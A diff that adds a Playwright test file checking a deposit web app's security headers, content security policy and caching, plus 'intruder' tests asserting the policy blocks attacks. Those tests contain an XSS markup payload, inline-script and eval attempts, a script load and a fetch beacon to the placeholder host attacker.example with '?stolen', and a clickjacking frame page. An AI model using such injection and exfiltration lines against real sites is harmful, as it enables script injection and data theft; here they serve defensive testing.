@@ -1,0 +1,207 @@
+import { readFileSync } from 'node:fs';
+import type { Page } from '@playwright/test';
+import { authHost, firestoreHost } from './support/database';
+import { createDeposit, createPerson, WITH_METHODS } from './support/person';
+import { logIn, pendingCard, says, signInAsAdmin } from './support/steps';
+import { expect, test } from './support/test';
+
+const PAGES = ['/', '/login', '/deposit', '/admin2067', '/no-such-page', '/assets'];
+
+/** The policy as the browser got it, directive by directive. */
+function directivesOf(policy = ''): Record<string, string[]> {
+  const directives = policy.split(';').map((directive) => directive.trim().split(/\s+/));
+  return Object.fromEntries(directives.map(([name = '', ...sources]) => [name, sources]));
+}
+
+const HASH = /^'sha256-[A-Za-z0-9+/]{43}='$/;
+
+/** Collects what the page was refused by its policy, from its first moment on. */
+async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
+  const seen: string[] = [];
+  await page.exposeFunction('reportViolation', (what: string) => seen.push(what));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const report = Reflect.get(window, 'reportViolation');
+      report(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`);
+    });
+  });
+  return async () => {
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
+    return seen;
+  };
+}
+
+for (const path of PAGES) {
+  test(`${path} comes with every header`, async ({ request }) => {
+    const response = await request.get(path);
+    const headers = response.headers();
+    expect(headers).toMatchObject({
+      'strict-transport-security': 'max-age=63072000; includeSubDomains; preload',
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'cross-origin-opener-policy': 'same-origin',
+      'cross-origin-resource-policy': 'same-origin',
+      'cross-origin-embedder-policy': 'require-corp',
+      'permissions-policy': expect.stringContaining('camera=()'),
+    });
+    const {
+      'script-src': scripts = [],
+      'style-src': styles = [],
+      ...policy
+    } = directivesOf(headers['content-security-policy']);
+    expect(policy).toEqual({
+      'default-src': ["'none'"],
+      'img-src': ["'self'", 'data:'],
+      'font-src': ["'self'"],
+      'connect-src': [
+        "'self'",
+        'https://identitytoolkit.googleapis.com',
+        'https://securetoken.googleapis.com',
+        'https://firestore.googleapis.com',
+        // Of the local run only.
+        `http://${authHost}`,
+        `http://${firestoreHost}`,
+      ],
+      'manifest-src': ["'self'"],
+      'worker-src': ["'self'"],
+      'base-uri': ["'none'"],
+      'form-action': ["'self'"],
+      'frame-ancestors': ["'none'"],
+      'object-src': ["'none'"],
+      'require-trusted-types-for': ["'script'"],
+      'trusted-types': ['service-worker'],
+      'upgrade-insecure-requests': [],
+    });
+    // Nothing but our own files, and what stands in our pages by its hash.
+    for (const [first, ...others] of [scripts, styles]) {
+      expect(first).toBe("'self'");
+      expect(others.filter((source) => !HASH.test(source))).toEqual([]);
+    }
+  });
+}
+
+test('assets are kept for ever, pages and the service worker are asked for each time', async ({
+  page,
+  request,
+}) => {
+  const assets: string[] = [];
+  page.on('response', (response) => {
+    const { pathname } = new URL(response.url());
+    if (pathname.startsWith('/assets/')) assets.push(pathname);
+  });
+  await page.goto('/login', { waitUntil: 'networkidle' });
+  expect(assets.length).toBeGreaterThan(0);
+  for (const asset of assets) {
+    expect(asset).toMatch(/-[\w-]{8}\.\w+$/);
+    const { 'cache-control': cache } = (await request.get(asset)).headers();
+    expect(cache).toBe('public, max-age=31536000, immutable');
+  }
+  for (const path of ['/', '/login', '/deposit', '/index.html', '/sw.js', '/icon.svg']) {
+    const { 'cache-control': cache } = (await request.get(path)).headers();
+    expect(cache, path).toBe('no-cache');
+  }
+  // A file of a former build is not answered by a page.
+  const gone = await request.get('/assets/gone-12345678.js');
+  expect(gone.status()).toBe(404);
+});
+
+test('firebase.json itself opens nothing for the emulators', () => {
+  const { hosting } = JSON.parse(readFileSync('firebase.json', 'utf8'));
+  expect(JSON.stringify(hosting)).not.toMatch(/127\.0\.0\.1|localhost|http:|unsafe|\*\./);
+});
+
+test('a walk through every screen violates no policy', async ({ page }) => {
+  const violations = await watchPolicy(page);
+  const asha = await createPerson('Asha', WITH_METHODS);
+  await createDeposit(asha, 'first', 12.5);
+  await logIn(page, asha);
+  const walk = ['/', '/deposit', '/deposit?tab=usdt', '/upi', '/profile', '/bind-upi'];
+  for (const path of [...walk, '/recharge-history', '/contact-us']) {
+    await page.goto(path);
+    await expect(page.getByRole('heading').first()).toBeVisible();
+  }
+  await page.goto('/deposit?tab=usdt');
+  await expect(page.getByRole('img', { name: /QR code/ })).toBeVisible();
+  await signInAsAdmin(page);
+  await pendingCard(page, 'Asha').getByRole('button', { name: 'Approve' }).click();
+  await page.getByRole('dialog').getByRole('button', { name: 'Approve' }).click();
+  await says(page, 'Deposit Approved');
+  expect(await violations()).toEqual([]);
+});
+
+test.describe('an intruder', () => {
+  // Chromium says what it refused; that it did is what these tests look for.
+  test.use({
+    expectedOnConsole: /Content Security Policy|Refused to|violates|Trusted|X-Frame/,
+  });
+
+  test('in the page can run no inline script, eval or foreign script, and write no markup', async ({
+    page,
+  }) => {
+    const violations = await watchPolicy(page);
+    await page.goto('/login');
+    const outcome = await page.evaluate(async () => {
+      // What the debugger runs at once is excused from the policy; what follows a pause is not.
+      await new Promise((resolve) => setTimeout(resolve));
+      const inline = document.createElement('script');
+      const attempts: Record<string, () => unknown> = {
+        inline: () => {
+          inline.append('document.title = "owned"');
+          document.body.append(inline);
+        },
+        handler: () => {
+          const button = document.createElement('button');
+          button.setAttribute('onclick', 'document.title = "owned"');
+          document.body.append(button);
+          button.click();
+        },
+        eval: () => (0, eval)('document.title = "owned"'),
+        markup: () => (document.body.innerHTML += '<img src=x onerror="document.title=1">'),
+        foreign: () => {
+          const script = document.createElement('script');
+          script.src = 'https://attacker.example/x.js';
+          document.body.append(script);
+        },
+        beacon: () => fetch('https://attacker.example/?stolen'),
+      };
+      const results: Record<string, string> = {};
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try {
+          await attempt();
+          results[name] = 'ran';
+        } catch (error) {
+          results[name] = error instanceof Error ? error.name : 'threw';
+        }
+      }
+      return { results, title: document.title };
+    });
+    expect(outcome.title).not.toMatch(/owned|1/);
+    expect(outcome.results, JSON.stringify(outcome.results)).toMatchObject({
+      eval: 'EvalError',
+      markup: 'TypeError',
+      foreign: 'TypeError',
+      beacon: 'TypeError',
+    });
+    const refused = (await violations()).join('\n');
+    expect(refused).toMatch(/connect-src/);
+    expect(refused).toMatch(/require-trusted-types-for|script-src/);
+  });
+
+  test('cannot put the app into a frame, and a page of its own can be', async ({
+    page,
+    baseURL,
+  }) => {
+    await page.route('https://attacker.example/**', (route) => {
+      const framed = new URL(route.request().url()).pathname === '/twin';
+      const frame = (src: string) => `<iframe src="${src}"></iframe>`;
+      const body = framed ? 'twin' : frame(`${baseURL}/login`) + frame('/twin');
+      return route.fulfill({ contentType: 'text/html', body });
+    });
+    await page.goto('https://attacker.example/');
+    const [, app, twin] = page.frames();
+    await expect.poll(() => twin?.locator('body').textContent()).toBe('twin');
+    expect(app?.url()).not.toContain('/login');
+    await expect(app?.getByText('Login') ?? page.getByText('Login')).toHaveCount(0);
+  });
+});
